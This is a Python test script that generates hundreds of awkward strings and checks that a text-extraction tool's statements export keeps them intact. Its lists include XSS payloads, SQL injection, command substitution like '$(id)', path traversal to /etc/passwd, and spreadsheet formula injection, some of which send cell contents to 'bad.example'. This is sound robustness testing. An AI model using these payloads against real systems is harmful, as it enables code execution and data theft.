#!/usr/bin/env python3
"""Two hundred and more texts that formats trip over: nasty.py prints them as `dixit extract` would, an article each;
nasty.py FOLDER checks that they came through `dixit build --statements` whole, as title, as claim and as evidence, into
FOLDER/statements.jsonl. What each export makes of them round-trip.py and tests/interop compare with that file.

In an article the text is the title, the publisher, the name of who speaks, what he says, when and where, and the parts of a fact.
"""
import hashlib
import json
import re
import sys

LONG = 100_000
TEXT_MAX = 8000  # bytes of a claim or a piece of evidence in a graph; titles are whole

QUOTES = ['"', '""', '"""', "'", "''", '"a"', "'a'", 'a"b', "it's", '"a', 'a"', "'a", "a'", '","', '"\n"', '\\"', "\\'", '`x`',
    '“curly” ‘single’', '«low» „high‟', "''formula", '"=1+1"', 'O\'Hara, "Bo"', '"""@en ^^<x>', "'''", "');--",
    "'; DROP TABLE nodes; --", '$$ body $$', "E'\\n'"]
BACKSLASHES = ['\\', '\\\\', 'a\\', '\\a', 'C:\\temp\\new', 'C:\\tmp\\', '\\\\host\\share', '\\n', '\\r\\n', '\\t', '\\u0041',
    '\\U0001F600', '\\x41', '\\0', '\\N \\G \\E \\T \\H \\L', '\\l\\r\\n', 'a\\"b', '\\,', '\\;', '\\N', 'a\\\nb', '\\xff',
    '\\u{41}', '%5C', '\\end{x}']
LINES = ['two\nlines', 'three\n\nlines', 'cr\rlf', 'crlf\r\nend', '\nleading', 'trailing\n', '\ttab first', 'tab\tinside',
    'tab last\t', ' blank first', 'blank last ', '  ', 'a  b', 'a\n b\n  c', 'unit,\n"second"', 'x\n=1+1',
    'line\u2028separator', 'paragraph\u2029separator', 'no\xa0break', 'zero\u200bwidth', 'next\x85line', 'form\x0cfeed',
    'vertical\x0btab']
MARKUP = [']]>', '<![CDATA[x]]>', '-->', '<!-- x', '--', '<!--', '<script>alert(1)</script>', '</script>', '</SCRIPT >',
    '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>', '&', '&amp;', '&amp;amp;',
    '&lt;b&gt;', '&#0;', '&#x1;', '&#38;', '&nbsp;', '&nosuch;', '<', '>', '<>', '</title>', '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY a "b">]>', '<b>bold</b>', '{{7*7}}', '${7*7}', '<%= 7 %>', '#{x}', '[x](javascript:alert(1))',
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '</text></svg><script>alert(1)</script>', '<br/>',
    '<table border="0">', '</td></tr></table>>', '--!>', 'label="x", URL="javascript:alert(1)"']
FORMULAS = ['=1+1', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A2)', '=HYPERLINK("http://bad.example/?"&A1,"x")', '\t=1+1',
    '\r=1+1', '\n=1+1', ' =1+1', '-', '+', '=', '@', '-5', '+49 30 1234', '-1.5e3',
    '=IMPORTXML(CONCAT("http://bad.example/",A1),"//a")', '|calc', '%0A=1', '@x', '\u200b=1+1', '＝1+1', '==1', '=A1;B1']
LINKS = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)',
    'data:text/html,<script>alert(1)</script>', 'vbscript:x', 'file:///etc/passwd', 'http://good.example/a b',
    'http://good.example/?a=1&b=2', 'https://good.example/"x', "https://good.example/'x", 'http://x"onclick="y', '//host/path',
    'http://', 'mailto:a@b.example', 'http://good.example/%zz', 'http://good.example/<b>', 'http://[::1]/', 'urn:x:"y"',
    'https://good.example/ü']
SCRIPTS = ['שלום עולם', 'مرحبا بالعالم', 'mixed שלום text', '\u202eoverride\u202c', '\u2066isolate\u2069', '\u200fmark',
    '\u202a\u202b', '日本語のテキスト', '中文，标点。', 'हिन्दी', 'ไทย', 'Ελληνικά', 'кириллица', 'İstanbul ıi', 'ſtraße ﬁn', 'é ö',
    'à́̂̃', 'z̷a̶l̵g̴o̸', '😀', '👩\u200d🚀', '👨\u200d👩\u200d👧\u200d👦', '🏳️\u200d🌈', '🇩🇪', '👍🏽', '🧿', '𝔘𝔫𝔦', '𐍈', '\U0010fffd',
    '\ue000 private', '\ufeffmark first', 'mark\ufefflater', '�', 'a\xadb', '\u2060', '\u3000wide']
VALUES = ['0', '1', '-0', '1.0', '.5.', '1e999', '1e-999', '0x1F', '1_000', '1,000', '1.000,5', 'NaN', 'nan', 'Infinity',
    '-inf', 'null', 'NULL', '\\N', 'None', 'nil', 'undefined', 'true', 'false', 'TRUE', 'yes', '2024-01-02', '2024-02-30',
    '0000-00-00', '10:30', '12/11/10', '1/2', '[a, b]', '[]', '{}', '{"a": 1}', '<[1, 2]>', '(1,2)', 'a;b', 'a|b', 'a,b',
    'a\x1fb', ';', ',', '|', ':', '::', '#', '# x', '%', '%s%n', '%d', '$1', '${HOME}', '`id`', '$(id)', '~', '!x', '*', '?',
    '.', '..', '../../etc/passwd', '/dev/null', 'CON', '@prefix : <x> .', '_:b0', '<x> <y> <z> .', 'a b .', '?x', ':LABEL',
    'Id', 'Source', 'id:ID']
CONTROLS = ['\x01', 'bell\x07', 'escape\x1b[31mred', 'backspace\x08', 'delete\x7f', 'c1\x85\x9b', 'unit\x1f', 'end\x1a',
    'nonchar\uffff', 'nonchar\ufffe', '\x1e\x1d\x1c', '\x02\x03']
LENGTHS = ['x' * LONG, 'long word ' * (LONG // 10), '"' * LONG, '\\' * LONG, 'é' * (LONG // 2), '=' + 'x' * LONG,
           ('y' * 199 + '\n') * (LONG // 200), ']]>' * (LONG // 3)]


def texts():
    out = QUOTES + BACKSLASHES + LINES + MARKUP + FORMULAS + LINKS + SCRIPTS + VALUES + CONTROLS + LENGTHS
    return list(dict.fromkeys(out))


def evidence(text, span, **more):
    return dict(text=text, begin=span[0], end=span[1], spans=[span], **more)


def mention(name, index, text, span):
    return dict(type="mention", document=name, index=index, text=text, begin=span[0], end=span[1], head=text, lemma=text,
                sentence=index, paragraph=index, form="name", entity="person", gender=None, plural=False, definite=True,
                subject=True, in_quotes=False, apposition_of=None, owner=None, title=text[:20])


def article(number, nasty):
    """The lines of one: "NASTY said NASTY", and below it "NASTY met NASTY"."""
    name = f"nasty/{number:04}.txt"
    text, at = "", []
    for words in (nasty, " ", "said", " ", nasty, "\n\n", nasty, " ", "met", " ", nasty, "\n"):
        at.append([len(text.encode()), len((text + words).encode())])
        text += words
    source, cue, content, subject, relation, thing = at[0:11:2]
    verb = nasty[:1000]  # becomes the name of an element in RDF/XML, which parsers limit
    digest, said = hashlib.sha256(text.encode()).hexdigest(), f"a-{number:016x}"
    yield dict(type="document", document=name, id="d-" + digest[:16], sha256=digest, title=nasty, publisher=nasty, date=None,
               language=nasty[:60], repaired=0, bytes=len(text.encode()), mentions=2, attributions=1, facts=1, text=text)
    yield mention(name, 0, nasty, source)
    yield mention(name, 1, nasty, subject)
    yield dict(type="attribution", id=said, document=name, index=0, source=evidence(nasty, source, mention=0),
               cue=evidence("said", cue), predicate="says", stance="denies" if number % 3 == 0 else "asserts",
               content=evidence(nasty, content), claim=f"c-{number:016x}", claim_text=nasty,
               claim_key=f"number {number}", key_source=[], mode="direct", certainty=1, confidence=0.5, addressee=1,
               channel=evidence(nasty, content), time=evidence(nasty, content),
               date="2024-01-02" if number % 2 else nasty[:60], sentence=0, parent=None)
    yield dict(type="fact", id=f"f-{number:016x}", document=name, index=0, subject=evidence(nasty, subject, mention=1),
               relation=dict(evidence("met", relation), text=verb, lemma=verb), object=evidence(nasty, thing, mention=0),
               time=evidence(nasty, thing), place=None, extra=[], negated=False, clause=False, sentence=1,
               asserted_by=said if number % 2 else None, confidence=0.5)


def cut(text):
    return text.encode()[:TEXT_MAX].decode(errors="ignore")


def shown(text):
    """Evidence is shown on one line: white space and controls are blanks."""
    text = cut(text)
    return re.sub("[\\s\u200b\ufeff\x00-\x1f\x7f-\x9f]+", " ", text).strip()


def check(folder):
    titles, claims, contents = {}, set(), set()
    with open(folder + "/statements.jsonl", encoding="utf-8", newline="\n") as f:
        for row in map(json.loads, f):
            if row["type"] == "document":
                titles[row["document"]] = row["title"]
            elif row["type"] == "claim":
                claims.add(row["text"])
            elif row["type"] == "attribution":
                contents.add(shown(row["content"]["text"]))
    lost = []
    for number, text in enumerate(texts()):
        lost += [f"title {text[:80]!r}"] * (titles.get(f"nasty/{number:04}.txt") != text)
        whole = text in claims or (cut(text) != text and shown(text) in map(shown, claims))
        lost += [f"claim {text[:80]!r}"] * (not whole)
        lost += [f"evidence {text[:80]!r}"] * (shown(text) not in contents)
    print(len(texts()), "texts")
    print("\n".join(lost[:10]))
    return bool(lost)


if __name__ == "__main__":
    if len(sys.argv) > 1:
        sys.exit(check(sys.argv[1]))
    for i, nasty_text in enumerate(texts()):
        for line in article(i, nasty_text):
            print(json.dumps(line, separators=(",", ":")))
